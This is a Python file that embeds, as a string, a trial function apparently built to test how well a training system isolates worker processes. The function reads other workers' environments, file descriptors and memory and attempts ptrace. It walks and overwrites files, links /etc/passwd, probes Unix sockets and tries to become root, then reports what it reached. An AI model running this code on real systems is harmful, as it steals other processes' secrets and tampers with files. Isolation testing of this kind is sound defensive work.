"""Training code that tries to read what is none of its business, and says how far it came."""

from __future__ import annotations

SOURCE = r'''
import ctypes, json, os, pathlib, resource, socket, stat

LIBC = ctypes.CDLL(None, use_errno=True)


def steal(trial):
    """What it looks for comes backwards, so that only the secret itself reads forwards."""
    needles = [word[::-1].encode() for word in trial.params["backwards"].split()]
    looked, found = {}, []

    def look(kind, where, data):
        looked.setdefault(kind, []).append(where)
        found.extend(f"{kind} {where}" for needle in needles if needle in data)

    look("own environment", "", json.dumps(dict(os.environ)).encode())
    me = os.getpid()
    for entry in pathlib.Path("/proc").glob("[0-9]*"):
        pid = int(entry.name)
        try:
            who = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if pid == me or "caviar_worker" not in who:
            continue
        for name in ("environ", "cmdline"):
            try:
                look(name, who, (entry / name).read_bytes())
            except OSError:
                pass
        try:
            for handle in (entry / "fd").iterdir():
                looked.setdefault("fd", []).append(who)
                if stat.S_ISREG(handle.stat().st_mode):
                    look("fd", who, handle.read_bytes())
        except OSError:
            pass
        for piece in memory(pid):
            look("memory", who, piece)
        if LIBC.ptrace(0x4206, pid, 0, 0) == 0:  # PTRACE_SEIZE, which stops nobody
            looked.setdefault("ptrace", []).append(who)
    for number in range(3, 256):
        try:
            about = os.fstat(number)
        except OSError:
            continue
        looked.setdefault("inherited", []).append(stat.S_IFMT(about.st_mode))
    home = pathlib.Path(os.environ["CAVIAR_TRIAL_FOLDER"]).parent.parent
    for folder, _, files in os.walk(home):
        looked.setdefault("listed", []).append(folder)
        for name in files:
            path = pathlib.Path(folder, name)
            try:
                look("file", str(path.relative_to(home)), path.read_bytes())
            except OSError:
                pass
    for name in trial.params["guessed"].split():
        try:
            look("file", name, (home / name).read_bytes())
        except OSError:
            pass
        try:
            (home / name).write_text("mine")
            looked.setdefault("written", []).append(name)
        except OSError:
            pass
    try:
        os.symlink("/etc/passwd", pathlib.Path(os.environ["CAVIAR_TRIAL_FOLDER"], "finish.json"))
        looked.setdefault("linked", []).append("finish.json")
    except OSError:
        pass
    for address in trial.params["sockets"].split():
        with socket.socket(socket.AF_UNIX) as probe:
            try:
                probe.connect(address)
                looked.setdefault("connected", []).append(address)
            except OSError:
                pass
    for step in (os.setuid, os.setgid):
        try:
            step(0)
            looked.setdefault("became root", []).append(step.__name__)
        except OSError:
            pass
    looked = {kind: sorted(set(map(str, places))) for kind, places in looked.items()}
    looked["core"] = [str(resource.getrlimit(resource.RLIMIT_CORE)[0])]
    looked["status"] = [l for l in open("/proc/self/status").read().splitlines() if l.startswith("NoNewPrivs")]
    text = json.dumps({"uid": os.getuid(), "groups": os.getgroups(), "found": sorted(set(found)), "looked": looked})
    print("LOOKED " + text)
    trial.report(0, score=1.0)
    trial.save_checkpoint(0, lambda folder: (folder / "weights").write_text("w"))
    return 1.0


def memory(pid):
    """What /proc/PID/mem gives of the writable pages, and process_vm_readv where that is refused."""
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb")
    except OSError:
        return
    with mem:
        for line in maps:
            place, rights = line.split()[:2]
            start, end = (int(part, 16) for part in place.split("-"))
            if rights.startswith("rw") and end - start < 64_000_000:
                try:
                    mem.seek(start)
                    yield mem.read(end - start)
                except (OSError, ValueError, OverflowError):
                    pass
'''
